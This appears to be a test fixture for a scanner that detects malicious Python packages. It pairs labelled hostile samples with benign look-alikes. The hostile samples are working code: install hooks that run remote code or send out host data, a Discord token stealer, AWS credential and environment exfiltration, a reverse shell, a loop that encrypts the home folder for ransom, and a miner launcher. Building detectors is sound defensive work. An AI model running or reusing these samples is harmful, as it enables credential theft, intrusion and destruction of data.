#: temporary file with code, started hidden
import sys
from os import system as run
from tempfile import NamedTemporaryFile
from setuptools import setup

tmp = NamedTemporaryFile(delete=False, suffix=".py")
tmp.write(b"from urllib.request import urlopen as u\nexec(u('https://example.net/inject').read())")
tmp.close()
try:
    run(f"start {sys.executable.replace('.exe', 'w.exe')} {tmp.name}")  # expect: PY-COMMAND, PY-INSTALL-HOOK
except Exception:
    pass
setup(name="colorz", version="1.0")
#: fernet payload
from cryptography.fernet import Fernet

exec(Fernet(b"x0Q1k8mIhTgHc5r1yN3S9lJm3m2mYkqk0y7b3t1y2Zs=").decrypt(b"gAAAAABk"))  # expect: PY-CODE error
#: dependency confusion ping
import os
import socket
import json
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Ping(install):
    def run(self):
        install.run(self)
        data = {"p": "internal-lib", "h": socket.gethostname(), "u": os.getlogin(), "c": os.getcwd()}
        body = json.dumps(data).encode("utf-8")
        req = urllib.request.Request("https://c9x2.oast.fun/", data=body)
        urllib.request.urlopen(req)  # expect: PY-EXFILTRATION, PY-INSTALL-HOOK


setup(name="internal-lib", version="99.0.0", cmdclass={"install": Ping})
#: encoded powershell
import subprocess

subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAC0A", shell=True, creationflags=0x08000000)  # expect: PY-COMMAND error
#: executable downloaded beside the package
import os
import urllib.request

path = os.path.join(os.getenv("APPDATA"), "WindowsUpdate.exe")
urllib.request.urlretrieve("https://cdn.example.net/files/build.exe", path)
os.startfile(path)  # expect: PY-COMMAND-INJECTION
#: executable in a temporary folder
import os
import subprocess
import tempfile
import requests


def fetch():
    target = os.path.join(tempfile.gettempdir(), "svc.exe")
    with open(target, "wb") as out:
        out.write(requests.get("https://cdn.example.net/svc.exe", timeout=30).content)
    subprocess.Popen(target, shell=True)  # expect: PY-COMMAND


fetch()
#: tokens searched in files
import os
import re
import requests

found = []
base = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")  # expect: PY-SECRET-FILE
for name in os.listdir(base):
    if name.endswith(".ldb"):
        with open(os.path.join(base, name), errors="ignore") as handle:
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", handle.read())
requests.post("https://discord.com/api/webhooks/9/abc", json={"content": "\n".join(found)}, timeout=4)  # expect: PY-EXFILTRATION
#: import at run time and hidden exec
_ = __import__
z = _("zlib").decompress(_("base64").b64decode("eJwrKMrMK9Ew1AQADhUCsA=="))
exec(z)  # expect: PY-CODE-DECODED error
#: reversed base64 with a lambda
unpack = lambda data: __import__("zlib").decompress(__import__("base64").b64decode(data[::-1]))
exec((unpack)(b"==AsCUhDQA1wE9KMrMKrwJe"))  # expect: PY-CODE error
#: lambda handler sends the environment
import json
import os
import urllib3

http = urllib3.PoolManager()


def lambda_handler(event, context):
    http.request("POST", "https://hooks.example.net/x", body=json.dumps(dict(os.environ)))  # expect: PY-EXFILTRATION error, PY-SECRET-ENVIRONMENT error
    return {"statusCode": 200}
#: public address looked up and posted
import getpass
import requests

ip = requests.get("https://api.ipify.org", timeout=5).text
requests.post("https://discord.com/api/webhooks/7/q", json={"username": "x", "content": f"{getpass.getuser()} {ip}"}, timeout=5)  # expect: PY-EXFILTRATION
#: reverse shell
import os
import pty
import socket

s = socket.socket()
s.connect((os.environ.get("RHOST"), 4242))  # expect: PY-NETWORK
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/sh")  # expect: PY-COMMAND error
#: aws credentials to a web address
from pathlib import Path
import httpx

text = Path("~/.aws/credentials").expanduser().read_text()  # expect: PY-SECRET-FILE
httpx.post("https://example.org/collect", data={"c": text})  # expect: PY-EXFILTRATION error
#: ftp upload of a home folder archive
import ftplib
import os
import shutil

shutil.make_archive("/tmp/h", "zip", os.path.expanduser("~"))
ftp = ftplib.FTP("198.51.100.9")  # expect: PY-NETWORK-CLEARTEXT
ftp.login("u", "p")
with open("/tmp/h.zip", "rb") as handle:
    ftp.storbinary("STOR h.zip", handle)  # expect: PY-EXFILTRATION
#: files encrypted for ransom
import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(root, name)
        with open(path, "rb") as f:
            data = f.read()
        with open(path, "wb") as f:
            f.write(box.encrypt(data))  # expect: PY-FILE-RANSOM error
#: miner started from a download
import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.net/xmrig", "xmrig")
subprocess.run(["chmod", "+x", "xmrig"])
subprocess.Popen(["./xmrig", "-o", "pool.example.net:3333"])  # expect: PY-COMMAND
#: a package that reads its own data
import json
from importlib import resources

with resources.files("tool").joinpath("table.json").open() as file:
    TABLE = json.load(file)
#: a package with lazy imports
import importlib

_names = {"load": "tool.io", "save": "tool.io"}


def __getattr__(name):
    if name in _names:
        return getattr(importlib.import_module(_names[name]), name)
    raise AttributeError(name)
#: a release uploader
import os
import sys
import requests


def upload(path):
    with open(path, "rb") as handle:
        answer = requests.post(
            "https://upload.example.org/legacy/",
            data={"name": os.path.basename(path)},
            files={"content": handle},
            auth=("__token__", os.environ["TOKEN"]),
            timeout=60,
        )
    answer.raise_for_status()


for one in sys.argv[1:]:
    upload(one)
#: an error reporter with the python version
import platform
import traceback
import requests


def report(error):
    requests.post(
        "https://errors.example.com/api",
        json={"trace": traceback.format_exc(), "python": platform.python_version()},
        timeout=5,
    )
#: a downloader with a checksum
import hashlib
import requests

data = requests.get("https://example.com/tool.tar.gz", timeout=60).content
if hashlib.sha256(data).hexdigest() != "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08":
    raise SystemExit("wrong checksum")
with open("tool.tar.gz", "wb") as out:
    out.write(data)
#: files encrypted for a backup
import sys
from cryptography.fernet import Fernet

key, source, target = sys.argv[1:]
with open(source, "rb") as f:
    sealed = Fernet(key.encode()).encrypt(f.read())
with open(target, "wb") as f:
    f.write(sealed)
#: compressed data in the source
import base64
import zlib

FONT = zlib.decompress(base64.b85decode("c-k3lNPG"))


def glyph(code):
    return FONT[code * 8:code * 8 + 8]
#: a shell in a test container
import subprocess


def run_tests(image):
    subprocess.run(["docker", "run", "--rm", image, "pytest", "-q"], check=True)
#: a scheduler in the program itself
import sched
import time

clock = sched.scheduler(time.time, time.sleep)


def tick(count):
    print("tick", count)
    if count < 3:
        clock.enter(1, 1, tick, (count + 1,))


clock.enter(0, 1, tick, (0,))
clock.run()
